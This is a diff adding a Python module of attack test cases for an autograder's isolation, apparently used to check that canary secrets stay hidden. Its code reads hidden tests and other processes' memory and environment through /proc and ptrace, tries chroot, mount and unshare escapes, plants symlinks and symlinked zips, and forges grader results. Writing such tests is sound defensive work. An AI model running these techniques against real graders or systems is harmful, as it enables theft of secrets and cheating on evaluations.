@@ -1,0 +1,154 @@
+"""Attacks on secrets: hidden tests, references, other submissions, the grader's environment and memory."""
+
+from hostile.attack import WRONG, Attack
+
+SEEN = "a canary's text in the output, the result, the feedback or the grades"
+_READ = '''
+def show(path):
+    try:
+        with open(path, "rb") as file: print(path, file.read(2000))
+    except Exception as error: print(type(error).__name__)
+'''
+
+ATTACKS = (
+    Attack("reads-hidden-tests", "leak", "opens the hidden tests, the reference and the neighbour by their paths", SEEN, _READ + '''
+for path in WORLD["secrets"]: show(path)
+for path in WORLD["secrets"]:
+    for prefix in ("/proc/self/root", "/proc/1/root", "/proc/thread-self/root", "/proc/self/cwd/../..", "/dev/fd/../root"): show(prefix + path)
+'''),
+    Attack("walks-everything", "leak", "walks the whole file system it can see for the canaries", SEEN, _READ + '''
+import time
+end = time.monotonic() + 1.0
+for top in ("/tmp", "/home", "/root", "/work", "/etc", "/var", "/opt", "/srv", "/mnt", "/autograder", "/"):
+    for folder, _, files in os.walk(top):
+        if time.monotonic() > end: break
+        for name in files:
+            if name.endswith((".py", ".toml", ".ipynb", ".csv")) and "site-packages" not in folder and "/lib/" not in folder: show(os.path.join(folder, name))
+'''),
+    Attack("imports-reference", "leak", "imports reference, the hidden tests and the mistakes", SEEN, '''
+import importlib, inspect
+sys.path[:0] = [WORLD["repository"], os.path.dirname(WORLD["hidden_test"]), WORLD["course"]]
+for name in ("reference", "reference.matrix_gradients", "reference.vault", "autograder.checks.seeds", "q1", "autograder.engine.single"):
+    try: print(inspect.getsource(importlib.import_module(name)))
+    except BaseException as error: print(type(error).__name__)
+print(os.environ)
+'''),
+    Attack("proc-environ", "leak", "reads the environment and memory maps of every process", SEEN, _READ + '''
+for pid in {*WORLD["pids"], os.getppid(), 1, "self", *(p for p in range(1, 400))}:
+    for name in ("environ", "cmdline", "maps", "auxv", "stack", "task/%s/environ" % pid): show(f"/proc/{pid}/{name}")
+'''),
+    Attack("proc-mem", "leak", "reads the grader's memory through /proc/<pid>/mem", SEEN, '''
+for pid in (*WORLD["pids"], os.getppid()):
+    try:
+        maps = open(f"/proc/{pid}/maps").read().split("\\n")
+        with open(f"/proc/{pid}/mem", "rb") as memory:
+            for line in maps:
+                if "[stack]" in line or "[heap]" in line:
+                    first, last = (int(part, 16) for part in line.split()[0].split("-"))
+                    memory.seek(first); content = memory.read(last - first)
+                    at = content.find(b"CANARY")
+                    print(content[at:at + 80])
+    except Exception as error: print(type(error).__name__)
+'''),
+    Attack("process-vm-readv", "leak", "reads the grader's memory with ptrace and process_vm_readv", SEEN, '''
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+for pid in (*WORLD["pids"], os.getppid(), 1):
+    print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
+    buffer = ctypes.create_string_buffer(4096)
+    class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+    local = iovec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
+    try:
+        first = int(open(f"/proc/{pid}/maps").read().split("[heap]")[0].split("\\n")[-1].split("-")[0], 16)
+    except Exception: first = 0x555555554000
+    remote = iovec(first, 4096)
+    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0: print(buffer.raw)
+    libc.syscall(438, libc.syscall(434, pid, 0), 3, 0)  # pidfd_getfd
+'''),
+    Attack("descriptors-inherited", "leak", "reads from every inherited descriptor and reopens them through /proc/self/fd", SEEN, '''
+import select
+for fd in range(3, 64):
+    for how in (lambda: os.pread(fd, 4000, 0), lambda: os.read(os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK), 4000), lambda: os.listdir(fd), lambda: os.readlink(f"/proc/self/fd/{fd}"), lambda: os.open("../../etc/passwd", os.O_RDONLY, dir_fd=fd)):
+        try: print(fd, how())
+        except Exception as error: pass
+'''),
+    Attack("escapes-the-root", "leak", "leaves its root: chroot, mount, pivot_root, .. from an open folder, open_by_handle_at", SEEN, _READ + '''
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+here = os.open(".", os.O_RDONLY)
+os.makedirs("x", exist_ok=True)
+print(libc.chroot(b"x"), libc.mount(b"none", b"x", b"tmpfs", 0, None), libc.umount2(b"/", 2), libc.unshare(0x10000000 | 0x20000))
+os.fchdir(here)
+for _ in range(40):
+    try: os.chdir("..")
+    except OSError: break
+print(libc.chroot(b"."))
+for path in WORLD["secrets"]: show("." + path); show(path)
+print(libc.syscall(304, -100, ctypes.create_string_buffer(64), 0), libc.syscall(425, 8, ctypes.create_string_buffer(256)))
+'''),
+    Attack("links-to-secrets", "leak", "makes symbolic and hard links to secrets, and reads them through its scratch folder", SEEN, _READ + '''
+for number, path in enumerate(WORLD["secrets"]):
+    for make in (os.symlink, os.link):
+        try: make(path, f"link{number}{make.__name__}"); show(f"link{number}{make.__name__}")
+        except OSError as error: print(type(error).__name__)
+'''),
+    Attack("shows-hidden-inputs", "leak", "raises in public cases what it was given in hidden ones", "the hidden inputs' digits in the feedback", '''
+given = []
+def twice(x):
+    given.append(x)
+    print("given", given, flush=True)
+    raise ValueError(f"{given}")
+def energy(x): raise ValueError(f"{given} {x}")
+def at_one(f, x):
+    given.append(np.asarray(f(x)))
+    print("given", given, flush=True)
+    raise ValueError(f"{given}")
+'''),
+    Attack("keeps-hidden-inputs-for-later", "leak", "hands hidden inputs to its next process: files, /dev/shm, exit codes, signals", "the hidden inputs' digits in the feedback", '''
+for path in ("given", "/tmp/given", "/dev/shm/given", os.path.expanduser("~/given")):
+    try: print("CANARY-KEPT", open(path).read())
+    except OSError: pass
+def twice(x):
+    for path in ("given", "/tmp/given", "/dev/shm/given", os.path.expanduser("~/given")):
+        try: open(path, "w").write(repr(x))
+        except OSError: pass
+    os._exit(int(x) % 251)
+'''),
+    Attack("forged-cell-errors", "leak", "answers the notebook's run with notes and errors of its own making, after a hidden call", "a hidden input in the feedback", '''
+from autograder.isolation import child
+def cells(notebook, channel, request):
+    return {"defined": ["twice", "energy", "at_one", "__init__", 3, None, np.zeros(3)], "failed": [[1, "made up"], [2**62, "x" * 10**6], [np.zeros(2), "y"]] * 50, "notes": ["n"]}
+child._run_cells = cells
+'''),
+    Attack("stack-of-the-fork", "leak", "searches its own memory, inherited from the template, for anything of the grader's", SEEN, '''
+import gc, re
+for line in open("/proc/self/maps"):
+    if " rw" in line and ("heap" in line or "stack" in line or line.rstrip().endswith(" 0")):
+        first, last = (int(part, 16) for part in line.split()[0].split("-"))
+        if last - first > 1 << 26: continue
+        try:
+            with open("/proc/self/mem", "rb") as memory:
+                memory.seek(first); content = memory.read(last - first)
+        except OSError: continue
+        for found in re.finditer(b"CANARY-(HIDDEN|ENV)[-\\\\w]+", content): print("found", found.group()[:6], found.group()[6:])
+'''),
+    Attack("secrets-in-the-environment", "leak", "prints its environment, arguments, sys.path and loaded modules", SEEN, '''
+print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, sorted(sys.modules), os.getcwd())
+'''),
+    Attack("zip-with-links", "leak", "a zip whose notebook is a symbolic link to a secret", SEEN, raw=lambda world: _zip_of_link(world), file="zip-with-links.zip"),
+    Attack("link-as-submission", "leak", "a symbolic link to the neighbour's submission, with a notebook's name", "the neighbour's score in its row", link="neighbour"),
+    Attack("device-as-submission", "leak", "a symbolic link to /dev/zero, with a notebook's name", "the batch hangs", link="device"),
+)  # fmt: skip
+
+
+def _zip_of_link(world):
+    import io
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        entry = zipfile.ZipInfo("vault.ipynb")
+        entry.create_system = 3
+        entry.external_attr = 0o120777 << 16
+        archive.writestr(entry, world["hidden_test"])
+    return buffer.getvalue()
